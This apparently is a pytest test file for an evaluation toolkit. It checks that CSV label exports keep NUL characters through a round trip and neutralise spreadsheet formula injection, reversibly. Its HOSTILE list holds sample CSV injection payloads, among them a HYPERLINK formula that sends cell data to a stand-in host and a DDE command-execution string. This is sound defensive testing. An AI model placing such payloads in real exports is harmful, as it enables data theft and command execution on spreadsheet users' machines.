"""CSV exports from untrusted text: NUL survives the round trip (issue 12.3), and formula triggers
are neutralised for spreadsheets by default, reversibly (issue 12.17, OWASP "CSV injection")."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import hypothesis.strategies as st
import pytest
from hypothesis import HealthCheck, given, settings

from evalkit.labels import InvalidLabelError, LabelStore, read_labels

PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
# OWASP: a cell starting with one of these is a formula in Excel / LibreOffice / Google Sheets
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"x\")",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=already quoted",
    "''",
    "'",
    "it's fine",
    "-",
]


def _raw_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.fixture
def store(tmp_path: Path) -> LabelStore:
    s = LabelStore(tmp_path / "labels.sqlite")
    s.register_field("delta", kind="int")
    yield s
    s.close()


def test_nul_in_trace_id_and_note_round_trips(store: LabelStore, tmp_path: Path) -> None:
    store.record("a\x00b", annotator="x", field="verdict", value="fail", note="n\x00te")
    store.record("a", annotator="x", field="verdict", value="pass")
    out = store.export(tmp_path / "l.csv")
    rows = read_labels(out, annotator="x").rows
    assert rows["trace_id"].tolist() == ["a\x00b", "a"]
    assert rows["note"].tolist()[0] == "n\x00te"
    verdicts = read_labels(out, annotator="x").frame
    assert dict(zip(verdicts["trace_id"], verdicts["verdict"], strict=True)) == {
        "a\x00b": "fail",
        "a": "pass",
    }


def test_formula_cells_are_neutralised_by_default(store: LabelStore, tmp_path: Path) -> None:
    for i, text in enumerate(HOSTILE):
        store.record(text, annotator=f"@ann{i}", field="note", value=text, note=text)
    store.record("t", annotator="x", field="delta", value=-2)  # a plain number stays a number
    out = store.export(tmp_path / "l.csv")
    header, *cells = _raw_cells(out)
    for row in cells:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or cell == "-2", row
    delta = [r[header.index("value")] for r in cells if r[header.index("field")] == "delta"]
    assert delta == ["-2"]
    rows = read_labels(out).rows
    assert rows["trace_id"].tolist()[: len(HOSTILE)] == HOSTILE
    assert rows["note"].tolist()[: len(HOSTILE)] == HOSTILE
    assert rows["annotator"].tolist()[0] == "@ann0"
    assert rows["value"].tolist()[-1] == "-2"  # read_labels types built-in fields only


def test_opt_out_writes_cells_verbatim(store: LabelStore, tmp_path: Path) -> None:
    store.record("=1+1", annotator="x", field="note", value="@cmd")
    out = store.export(tmp_path / "raw.csv", escape_formulas=False)
    _, row = _raw_cells(out)
    assert row[1:5] == ["=1+1", "x", "note", "@cmd"]
    assert read_labels(out).rows["trace_id"].tolist() == ["=1+1"]
    with pytest.raises(InvalidLabelError, match=r"`escape_formulas` only applies to format 'csv'"):
        store.export(tmp_path / "l.jsonl", escape_formulas=False)
    with pytest.raises(InvalidLabelError, match=r"`escape_formulas` must be True or False; got 0"):
        store.export(tmp_path / "l.csv", escape_formulas=0)  # type: ignore[arg-type]


@given(st.text(max_size=12))
def test_escape_is_reversible_and_safe(cell: str) -> None:
    from evalkit.labels._export import escape_formula, unescape_formula

    escaped = escape_formula(cell)
    assert unescape_formula(escaped) == cell
    # only plain numbers (-2, +1.5, -1e3: data, not formulas) may still start with a trigger
    assert not escaped.startswith(TRIGGERS) or PLAIN_NUMBER.fullmatch(cell)


_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=20
).filter(lambda s: s.strip())


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(trace=_text, note=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20))
def test_csv_round_trip_of_any_text(tmp_path: Path, trace: str, note: str) -> None:
    path = tmp_path / "fuzz.sqlite"
    for p in tmp_path.glob("fuzz*"):
        p.unlink()
    with LabelStore(path) as s:
        s.record(trace, annotator="a", field="note", value=note, note=note or None)
        back = read_labels(s.export(tmp_path / "fuzz.csv")).rows
    assert back["trace_id"].tolist() == [trace]
    assert back["value"].tolist() == [note]
    assert back["note"].tolist() == [note or None]


def test_csv_reader_keeps_plain_exports_readable() -> None:
    from evalkit.labels._export import unescape_formula

    # a label file written by hand with a leading quote not before a trigger is read as written
    assert unescape_formula("'hello") == "'hello"
